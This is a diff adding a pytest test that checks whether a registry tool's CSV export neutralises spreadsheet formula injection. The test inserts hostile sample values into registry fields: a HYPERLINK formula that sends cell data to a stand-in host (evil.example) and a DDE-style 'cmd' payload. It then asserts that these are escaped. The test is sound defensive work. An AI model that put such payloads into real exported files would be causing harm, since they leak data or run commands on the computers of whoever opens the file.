@@ -134,3 +134,20 @@ def test_page_sorts_and_filters_in_a_headless_browser(tmp_path: Path, monkeypatc
     probe = json.loads(html.unescape(re.search(r'data-probe="([^"]*)"', dom).group(1)))
     assert probe == {"order": ["siras_santa_ana_unified", "siras_fresno_unified", "siras_acalanes_sftp",
                                "siras_abc_unified"], "shown": 1}  # second click sorts descending; filter by text
+
+
+def test_csv_neutralises_registry_text_a_spreadsheet_would_run_as_a_formula(tmp_path: Path, capsys, monkeypatch):
+    monkeypatch.delenv("HUB_WAREHOUSE_URL", raising=False)
+    data = yaml.safe_load(DEMO.read_text())
+    entry = data["integrations"][0]
+    entry.update(source='=HYPERLINK("http://evil.example/?"&A1,"x")', destination="+1+cmd|' /C calc'!A0",
+                 ticket="-2+3", notes="@SUM(1,1)", filtering="\t=1+1", timing="nightly = 02:00")
+    registry = tmp_path / "registry.yaml"
+    registry.write_text(yaml.safe_dump(data, sort_keys=False))
+    assert main(["inventory", "--registry", str(registry), "--format", "csv"]) == 0
+    row = next(r for r in csv.DictReader(io.StringIO(capsys.readouterr().out)) if r["Integration"] == entry["id"])
+    assert row["Source"] == "'" + entry["source"] and row["Destination"] == "'" + entry["destination"]
+    assert row["Ticket Number"] == "'-2+3" and row["Notes"] == "'@SUM(1,1)" and row["Filtering"] == "'\t=1+1"
+    assert row["Timing"] == "nightly = 02:00"  # a formula character inside the text is harmless
+    cells = [v for r in csv.DictReader(io.StringIO(run(capsys, "--format", "csv"))) for v in r.values()]
+    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in cells)
